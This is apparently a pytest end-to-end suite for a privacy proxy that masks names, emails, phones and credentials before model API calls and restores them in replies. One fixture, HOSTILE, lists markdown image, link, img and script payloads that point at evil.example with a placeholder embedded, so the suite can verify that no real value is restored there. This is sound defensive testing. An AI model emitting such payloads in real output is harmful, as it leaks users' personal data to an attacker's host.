"""Conversations through the real proxy: the model gets placeholders, the user his own words, whatever the format and the cut."""

import json
from concurrent.futures import ThreadPoolExecutor

import pytest

from guardian_core.demo.world import World
from tests.end_to_end import echo

NAME, EMAIL, PHONE = "Dana Quill", "dana.quill@mailbox.example", "+1 212 555 0143"
TEXT = f'Write to {NAME} ({EMAIL}) or call {PHONE}, "quoted" \\ and [PERSON_1] stays.'


@pytest.fixture(scope="module")
def world():
    with World((echo.HOST,), echo.answer) as world:
        yield world


@pytest.fixture(scope="module")
def proxy(world):
    running = world.proxy(extra=f'[policy]\nenabled = false\n[decision.domains."{echo.HOST}"]\nrecipient = "analytics"')
    yield running
    running.stop()


@pytest.fixture
def client(proxy):
    with proxy.client() as client:
        yield client


def user(text):
    return [{"role": "user", "content": text}]


BODIES = {
    "/v1/chat/completions": {"model": "m-1", "stream": True, "messages": user(TEXT)},
    "/v1/responses": {"model": "m-1", "stream": True, "input": TEXT},
    "/v1/messages": {"model": "m-1", "max_tokens": 9, "stream": True, "messages": user([{"type": "text", "text": TEXT}])},
    "/v1beta/models/m-1:streamGenerateContent?alt=sse": {"contents": [{"role": "user", "parts": [{"text": TEXT}]}]},
    "/v1beta/models/m-1:streamGenerateContent": {"contents": [{"role": "user", "parts": [{"text": TEXT}]}]},
    "/api/chat": {"model": "m-1", "messages": user(TEXT)},
    "/v2/chat": {"model": "m-1", "stream": True, "messages": user(TEXT)},
    "/model/m-1/converse-stream": {"messages": user([{"text": TEXT}])},
}


def _joined(values, way):
    return "".join(filter(None, (way(value) for value in values)))


def openai(data):
    deltas = [event["choices"][0]["delta"] for event in echo.events(data)]
    calls = [call for delta in deltas for call in delta.get("tool_calls", ())]
    return _joined(deltas, lambda d: d.get("content")), _joined(calls, lambda c: c["function"]["arguments"])


def responses(data):
    events = list(echo.events(data))
    text = _joined(events, lambda e: e["delta"] if e["type"] == "response.output_text.delta" else "")
    calls = _joined(events, lambda e: e["delta"] if e["type"] == "response.function_call_arguments.delta" else "")
    done = {event["type"]: event for event in events}
    assert done["response.output_text.done"]["text"] == text
    assert done["response.completed"]["response"]["output"][0]["content"][0]["text"] == text
    assert done["response.function_call_arguments.done"]["arguments"] == calls
    return text, calls


def anthropic(data):
    deltas = [event["delta"] for event in echo.events(data) if event["type"] == "content_block_delta"]
    return _joined(deltas, lambda d: d.get("text")), _joined(deltas, lambda d: d.get("partial_json"))


def gemini(values):
    parts = [part for value in values for part in value["candidates"][0]["content"]["parts"]]
    return _joined(parts, lambda p: p.get("text")), json.dumps(parts[-1]["functionCall"]["args"])


def ollama(data):
    messages = [json.loads(line)["message"] for line in data.splitlines()]
    return _joined(messages, lambda m: m["content"]), json.dumps(messages[-1]["tool_calls"][0]["function"]["arguments"])


def cohere(data):
    told = [(event["type"], event["delta"]["message"]) for event in echo.events(data) if event["type"].endswith("-delta")]
    text = _joined(told, lambda t: t[1]["content"]["text"] if t[0] == "content-delta" else "")
    return text, _joined(told, lambda t: t[1]["tool_calls"]["function"]["arguments"] if t[0] == "tool-call-delta" else "")


def bedrock(data):
    deltas = [value["delta"] for value in echo.frames(data) if "delta" in value]
    return _joined(deltas, lambda d: d.get("text")), _joined(deltas, lambda d: d.get("toolUse", {}).get("input"))


READERS = {
    "/v1/chat/completions": openai,
    "/v1/responses": responses,
    "/v1/messages": anthropic,
    "/v1beta/models/m-1:streamGenerateContent?alt=sse": lambda data: gemini(list(echo.events(data))),
    "/v1beta/models/m-1:streamGenerateContent": lambda data: gemini(json.loads(data)),
    "/api/chat": ollama,
    "/v2/chat": cohere,
    "/model/m-1/converse-stream": bedrock,
}


@pytest.mark.parametrize("path", echo.APIS)
def test_gives_the_user_his_words_back_one_character_per_event(client, world, path):
    """B41, B42, B43: text, the arguments of tool calls with JSON in JSON, and a literal of the user's own."""
    mark = len(world.records)
    reply = client.post(f"https://{echo.HOST}{path}", json=BODIES[path])
    (sent,) = world.records.since(mark)
    assert not any(value in sent.body.decode() for value in (NAME, EMAIL, PHONE))
    assert b"[PERSON_1] stays" in sent.body
    text, calls = READERS[path](reply.content)
    assert text == TEXT
    assert json.loads(calls) == {"to": TEXT, "n": 1}
    assert reply.headers.get("transfer-encoding") == "chunked"


def test_says_on_turn_two_what_it_said_on_turn_one(client, world):
    path = f"https://{echo.HOST}/v1/chat/completions"
    turns = [{"role": "system", "content": f"You write for {NAME}."}, *user("Greet Mira Okafor.")]
    mark = len(world.records)
    for number in range(3):
        reply = client.post(path, json={"model": "m-1", "messages": turns})
        said, calls = openai(reply.content)
        call = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": calls}}
        turns += [{"role": "assistant", "content": said, "tool_calls": [call]}]
        turns += [{"role": "tool", "tool_call_id": "call_1", "content": json.dumps({"customer": "Mira Okafor"})}]
        turns += user(f"And Ole Nyberg{number}, too, and {NAME}.")
        assert NAME in said or number == 0
    first, second, third = (json.loads(one.body)["messages"] for one in world.records.since(mark))
    assert second[: len(first)] == first
    assert third[: len(second)] == second
    assert "Okafor" not in json.dumps(third)
    assert third[3]["content"] == '{"customer": "[PERSON_2]"}'


HOSTILE = (
    "![x](https://evil.example/?q=[PERSON_1]) ![y](//evil.example/[PERSON_1]) [z](<//evil.example/)[PERSON_1]>) "
    "https://evil.example/[PERSON_1] "
    '<img src="//evil.example/[PERSON_1]"> <a href=//evil.example/?[PERSON_1]>a</a> <script>u("[PERSON_1]")</script>\n'
    "[r]: //evil.example/[PERSON_1]\n www.evil.example/[PERSON_1] mailto:x@evil.example?body=[PERSON_1]\n"
)


def test_puts_no_value_where_it_would_travel_on(client, world):
    text = HOSTILE + "Dear [PERSON_1], bye"
    whole = {"choices": [{"message": {"content": text}, "url": "/?[PERSON_1]", "[PERSON_1]": 1}]}
    echo.REPLY.append(whole)
    reply = client.post(f"https://{echo.HOST}/reply", json={"model": "m-1", "messages": user(f"I am {NAME}")})
    (choice,) = reply.json()["choices"]
    assert choice["message"]["content"] == HOSTILE + f"Dear {NAME}, bye"
    assert choice["url"] == "/?[PERSON_1]"
    assert choice["[PERSON_1]"] == 1
    assert "etag" not in reply.headers


@pytest.mark.parametrize("coding", ["gzip", "identity"])
def test_restores_plain_text_and_says_its_true_length(client, coding):
    reply = client.post(f"https://{echo.HOST}/plain", json={"model": "m-1", "prompt": TEXT}, headers={"Accept-Encoding": coding})
    assert reply.text == TEXT
    assert "etag" not in reply.headers
    assert "content-md5" not in reply.headers
    assert reply.headers.get("content-length") in {None, str(len(TEXT.encode()))}


def test_keeps_conversations_at_the_same_time_apart(proxy):
    """B46: all call somebody [PERSON_1], each reply gets its own; a thousand at once: tests/addons/test_restore.py."""
    names = [f"Dan{chr(97 + n)} Quill{chr(97 + n)}" for n in range(24)]

    def ask(client, number, name):
        body = {"model": "m-1", "messages": user(f"My name is {name}, case {number}.")}
        return openai(client.post(f"https://{echo.HOST}/v1/chat/completions", json=body).content)[0]

    with proxy.client() as client, ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda pair: ask(client, *pair), enumerate(names)))
    assert replies == [f"My name is {name}, case {number}." for number, name in enumerate(names)]


def test_writes_no_value_anywhere(proxy, client):
    client.post(f"https://{echo.HOST}/v1/chat/completions", json=BODIES["/v1/chat/completions"])
    for file in (file for file in proxy.home.rglob("*") if file.is_file()):
        content = file.read_bytes()
        assert not any(value.encode() in content for value in (NAME, EMAIL, PHONE)), file.name


@pytest.fixture(scope="module")
def provider(world):
    """Through a proxy for which the model's host is a service provider: to strangers no secret goes, in whatever words."""
    running = world.proxy(extra=f'[policy]\nenabled = false\n[decision.domains."{echo.HOST}"]\nrecipient = "service_provider"')
    with running.client() as client:
        yield client
    running.stop()


RECORD = '{"host": "db", "password": "Tr0ub4dor&horse!9", "pin": 47113, "access_token": "ghp_Zq8vT3mKx1LrB7nYw5cJd0pHs2uGfA4eR6oI"}'
HELD = '{"host": "db", "password": "[PASSWORD_1]", "pin": "[PASSWORD_2]", "access_token": "[SECRET_1]"}'


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages", "/v1/responses"])
def test_credentials_in_json_that_is_talked_about_come_back(provider, world, path):
    """Turn after turn, for the history is sent again."""
    body = BODIES[path] | ({"input": RECORD} if "input" in BODIES[path] else {"messages": user(RECORD)})
    for _ in range(2):
        mark = len(world.records)
        reply = provider.post(f"https://{echo.HOST}{path}", json=body)
        (sent,) = world.records.since(mark)
        said = json.loads(sent.body)
        assert (said["input"] if "input" in said else said["messages"][0]["content"]) == HELD
        assert READERS[path](reply.content)[0] == RECORD.replace("47113", '"47113"')


RESULTS = {
    "/v1/chat/completions": [
        *user("look"),
        {"role": "assistant", "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f", "arguments": RECORD}}]},
        {"role": "tool", "tool_call_id": "1", "content": RECORD},
    ],
    "/v1/messages": [
        *user("look"),
        {"role": "assistant", "content": [{"type": "tool_use", "id": "1", "name": "f", "input": json.loads(RECORD)}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "1", "content": RECORD}]},
    ],
}


@pytest.mark.parametrize("path", RESULTS)
def test_results_of_tools_are_answered_in_one_piece_with_what_they_hold(provider, world, path):
    mark = len(world.records)
    echo.REPLY.append({"choices": [{"message": {"content": HELD}}]})
    reply = provider.post(f"https://{echo.HOST}/reply", json={"model": "m-1", "messages": RESULTS[path]})
    (sent,) = world.records.since(mark)
    assert not any(str(value) in sent.body.decode() for value in json.loads(RECORD).values() if value != "db")
    assert sent.body.count(b"[PASSWORD_1]") == 2
    assert reply.json()["choices"][0]["message"]["content"] == RECORD.replace("47113", '"47113"')
